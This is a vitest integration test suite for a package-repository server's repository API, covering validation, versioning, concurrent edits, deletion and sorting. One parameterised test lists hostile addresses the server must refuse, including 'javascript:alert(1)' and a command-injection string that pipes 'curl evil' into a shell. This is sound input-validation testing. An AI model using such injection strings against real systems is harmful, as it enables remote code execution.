import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type Client, replace, startPackhouse, type TestPackhouse } from "../../testing/packhouse.ts";
import { smallRPackage } from "../../testing/small-packages.ts";

let it: TestPackhouse;
let admin: Client;
let other: Client;
let count = 0;

beforeAll(async () => {
  it = await startPackhouse();
  admin = await it.as(it.admin);
  other = await it.as(await it.given.person("other", "admin"));
});
afterAll(() => it.close());

const described = (name: string, more: object = {}) => ({
  name,
  publicationUri: `${it.address}/repo/${name}`,
  serverAddress: `${it.address}/repo/${name}`,
  ...more,
});
async function created(more: object = {}): Promise<{ id: number; name: string }> {
  count += 1;
  const { http, data } = await admin.post("/r/repositories", described(`made-${count}`, more));
  expect(http).toBe(201);
  return data;
}
async function eventsOf(id: number): Promise<{ eventType: string; changed: string[] }[]> {
  const { data } = await admin.get("/events?resourceType=repository&size=2000");
  return data.content
    .filter((event: { resourceId: number }) => event.resourceId === id)
    .map((event: { eventType: string; changedProperties: Record<string, string>[] }) => ({
      eventType: event.eventType,
      changed: event.changedProperties.map((it) => `${it.property}: ${it.valueBefore} → ${it.valueAfter}`),
    }));
}

describe("a new repository", () => {
  test("has the defaults of its technology", async () => {
    const { data: r } = await admin.post("/r/repositories", described("plain-r"));
    expect(r).toMatchObject({ version: 0, published: false, requiresAuthentication: true, redirectToSource: false });
    const { data: python } = await admin.post(
      "/python/repositories/",
      described("plain-python", { hashMethod: "SHA512" }),
    );
    expect(python).toMatchObject({ technology: "Python", hashMethod: "SHA512" });
  });

  test("is refused with every broken rule, in order", async () => {
    const { name } = await created();
    const answer = await admin.post("/r/repositories", { name, publicationUri: " ", serverAddress: "no address" });
    expect([answer.http, answer.messageCode]).toEqual([422, "error.validation"]);
    expect(answer.data).toEqual([
      "repository.duplicate.name",
      "empty.publicationuri",
      "This is not a valid address of a repository server.",
    ]);
    const blank = await admin.post("/python/repositories", {});
    const unusable = "This is not a valid address of a repository server.";
    expect(blank.data).toEqual(["empty.publicationuri", "empty.name", unusable]);
    const none = await admin.post("/r/repositories", { name: null, publicationUri: "", serverAddress: null });
    expect(none.data).toEqual(["empty.publicationuri", "empty.name", "empty.serveraddress"]);
  });

  test("keeps its id", async () => {
    const [one, other] = [await created(), await created()];
    const path = `/r/repositories/${one.id}`;
    const changed = async (id: unknown) => (await admin.patch(path, [replace("/id", id)])).data;
    expect(await changed(999_999)).toEqual(["repository.not.found"]);
    expect(await changed(other.id)).toEqual(["forbidden.update"]);
    expect((await admin.patch(path, [replace("/id", `${one.id}`)])).http).toBe(200);
  });

  test.each([
    "javascript:alert(1)",
    "data:text/html,x",
    "ftp://example.org/x",
    "http://x/$(curl evil|sh)",
    "http://x/`id`",
    "http://x/a b",
    "http://x/\u0007",
    "http://user:secret@x/",
  ])("cannot have an address such as %j, neither at first nor later", async (address) => {
    const refused = ["invalid.publicationuri", "This is not a valid address of a repository server."];
    const bad = { publicationUri: address, serverAddress: address };
    const answer = await admin.post("/r/repositories", { name: `bad-${count}`, ...bad });
    expect([answer.http, answer.data]).toEqual([422, refused]);
    const { id } = await created();
    const patch = await admin.patch(`/r/repositories/${id}`, [
      replace("/publicationUri", address),
      replace("/serverAddress", address),
    ]);
    expect([patch.http, patch.data]).toEqual([422, refused]);
  });

  test("has names and addresses of a limited length", async () => {
    const long = (length: number) => `http://x/${"a".repeat(length)}`;
    const body = { name: "n".repeat(256), publicationUri: long(1000), serverAddress: long(1001) };
    expect((await admin.post("/r/repositories", body)).data).toEqual([
      "publicationuri.too.long",
      "name.too.long",
      "serveraddress.too.long",
    ]);
    const most = { name: "n".repeat(255), publicationUri: long(991), serverAddress: long(991) };
    expect((await admin.post("/r/repositories", most)).http).toBe(201);
  });

  test("keeps an older address until it is changed", async () => {
    const { id } = await created();
    const old = "javascript:old";
    await it.deps.db
      .updateTable("repositories")
      .set({ publication_uri: old, server_address: `${old}-server` })
      .where("id", "=", id)
      .execute();
    const path = `/r/repositories/${id}`;
    expect((await admin.patch(path, [replace("/redirectToSource", true)])).data).toMatchObject({ publicationUri: old });
    expect((await admin.patch(path, [replace("/publicationUri", `${old}er`)])).http).toBe(422);
    expect((await admin.patch(path, [replace("/publicationUri", "https://x.example.org/new")])).http).toBe(200);
  });

  test("is not created from anything but a repository", async () => {
    for (const body of [[], "name", null, described("x", { shoeSize: 43 }), described("x", { published: "perhaps" })])
      expect((await admin.post("/r/repositories", body)).messageCode).toBe("bad.request");
    expect((await admin.post("/python/repositories", described("x", { hashMethod: "CRC32" }))).http).toBe(400);
  });

  test("takes neither id nor version from the request", async () => {
    const { id } = await created();
    const { data } = await admin.post("/r/repositories", described("own-id", { id, version: 7, deleted: true }));
    expect(data.id).not.toBe(id);
    expect(data).toMatchObject({ version: 0, deleted: false });
  });
});

describe("a change of a repository", () => {
  test("is recorded with the previous values, and raises the version even when nothing changes", async () => {
    const { id, name } = await created();
    const path = `/r/repositories/${id}`;
    const { data } = await admin.patch(path, [
      replace("/requiresAuthentication", "false"),
      replace("/name", `${name}-2`),
    ]);
    expect(data).toMatchObject({ version: 1, requiresAuthentication: false, name: `${name}-2` });
    expect((await admin.patch(path, [])).data.version).toBe(2);
    expect(await eventsOf(id)).toEqual([
      { eventType: "update", changed: [`name: ${name} → ${name}-2`, "requiresAuthentication: true → false"] },
      { eventType: "create", changed: [] },
    ]);
  });

  test("of fields that the server sets is ignored or refused", async () => {
    const { id, name } = await created();
    const path = `/r/repositories/${id}`;
    expect((await admin.patch(path, [replace("/technology", "Python")])).data.technology).toBe("R");
    expect((await admin.patch(path, [replace("/version", 12)])).data).toEqual(["forbidden.update"]);
    expect((await admin.patch(path, [{ op: "test", path: "/name", value: "another" }])).messageCode).toBe(
      "error.malformed.patch",
    );
    expect((await admin.patch(path, [replace("/name", null)])).http).toBe(422);
    expect((await admin.get(path)).data.name).toBe(name);
  });
});

describe("two users at the same time", () => {
  test("who change one repository take turns, and nothing is lost", async () => {
    const { id } = await created();
    const path = `/r/repositories/${id}`;
    const answers = await Promise.all([
      admin.patch(path, [replace("/requiresAuthentication", false)]),
      other.patch(path, [replace("/redirectToSource", true)]),
      admin.patch(path, [replace("/name", "both")]),
      other.patch(path, [replace("/published", true)]),
    ]);
    expect(answers.map(({ http }) => http)).toEqual([200, 200, 200, 200]);
    expect((await admin.get(path)).data).toMatchObject({
      version: 4,
      name: "both",
      requiresAuthentication: false,
      redirectToSource: true,
      published: true,
    });
    expect((await eventsOf(id)).flatMap(({ changed }) => changed).length).toBe(4);
  });

  test("who rename it write a chain of events: each starts from the previous name", async () => {
    const { id, name } = await created();
    const names = ["first", "second", "third"].map((word) => `${name}-${word}`);
    await Promise.all(names.map((it) => other.patch(`/r/repositories/${id}`, [replace("/name", it)])));
    const steps = (await eventsOf(id)).flatMap(({ changed }) => changed).reverse();
    const ends = steps.map((step) => step.replace(/^name: /, "").split(" → "));
    expect(ends[0]?.[0]).toBe(name);
    for (const [index, [before]] of ends.slice(1).entries()) expect(before).toBe(ends[index]?.[1]);
    expect((await admin.get(`/r/repositories/${id}`)).data.name).toBe(ends.at(-1)?.[1]);
  });

  test("who want the same name for two repositories: one gets it", async () => {
    const [one, two] = [await created(), await created()];
    const answers = await Promise.all([
      admin.patch(`/r/repositories/${one.id}`, [replace("/name", "wanted")]),
      other.patch(`/r/repositories/${two.id}`, [replace("/name", "wanted")]),
      other.post("/r/repositories", described("wanted")),
    ]);
    expect(answers.map(({ http }) => http).toSorted()[0]).toBeLessThan(300);
    const losers = answers.filter(({ http }) => http === 422);
    expect(losers.map(({ data }) => data)).toEqual([["repository.duplicate.name"], ["repository.duplicate.name"]]);
  });

  test("who delete it: one succeeds, the other is shown that it is deleted", async () => {
    const { id } = await created();
    const answers = await Promise.all(
      [admin, other].map((person) => person.patch(`/r/repositories/${id}`, [replace("/deleted", true)])),
    );
    expect(answers.map(({ http }) => http).toSorted()).toEqual([200, 405]);
    expect((await eventsOf(id)).length).toBe(2);
  });
});

describe("a deleted repository", () => {
  test("takes its packages and maintainers with it, and restores exactly those", async () => {
    const { id, name } = await created({ published: true, requiresAuthentication: false });
    const upload = async (packageName: string) =>
      (await admin.upload("R", await smallRPackage(packageName, "1.0"), { repository: name })).data.packageBag.id;
    const [stays, gone] = [await upload("stays"), await upload("gone")];
    await admin.patch(`/r/packages/${gone}`, [replace("/deleted", true)]);
    const keeper = await it.given.repositoryMaintainer(await it.given.person("keeper", "repositorymaintainer"), { id });

    const deleted = await admin.patch(`/r/repositories/${id}`, [replace("/deleted", true)]);
    expect(deleted.data).toMatchObject({ deleted: true, published: false });
    const states = async () => [
      (await admin.get(`/r/packages/${stays}`)).data.deleted,
      (await admin.get(`/r/packages/${gone}`)).data.deleted,
      (await admin.get(`/repository-maintainers/${keeper}`)).data.deleted,
    ];
    expect(await states()).toEqual([true, true, true]);
    expect((await fetch(`${it.address}/repo/${name}/src/contrib/PACKAGES`)).status).toBe(404);

    const restored = await admin.patch(`/r/repositories/${id}`, [replace("/deleted", false)]);
    expect(restored.data).toMatchObject({ deleted: false, published: false });
    expect(await states()).toEqual([false, true, false]);
  });

  test("keeps its name", async () => {
    const { id, name } = await created();
    await admin.patch(`/r/repositories/${id}`, [replace("/deleted", true)]);
    expect((await admin.post("/python/repositories", described(name))).data).toContain("repository.duplicate.name");
    expect((await admin.delete(`/r/repositories/${id}`)).http).toBe(204);
    expect((await admin.post("/r/repositories", described(name))).http).toBe(201);
  });
});

describe("names of repositories", () => {
  test("are sorted by code point, and in natural order if a client asks for it", async () => {
    for (const name of ["order-a10", "order-A9", "order-b1", "order-A10", "order-B"]) {
      const { http } = await admin.post("/r/repositories", described(name));
      expect(http).toBe(201);
    }
    const sortedBy = async (sort: string) => {
      const { data } = await admin.get(`/repositories?search=order-&sort=${sort}`);
      return data.content.map(({ name }: { name: string }) => name.slice("order-".length));
    };
    expect(await sortedBy("name")).toEqual(["A10", "A9", "B", "a10", "b1"]);
    expect(await sortedBy("nameNatural")).toEqual(["A9", "a10", "A10", "B", "b1"]);
    expect(await sortedBy("nameNatural,desc")).toEqual(["b1", "B", "A10", "a10", "A9"]);
    const { data: page } = await admin.get("/repositories?search=order-&sort=nameNatural,asc&size=2");
    expect(page.links.find(({ rel }: { rel: string }) => rel === "next").href).toContain("sort=nameNatural,asc");
    const refused = await admin.get("/repositories?sort=publicationUriNatural");
    expect([refused.http, refused.messageCode]).toEqual([400, "unrecognized.query.parameter"]);
  });
});
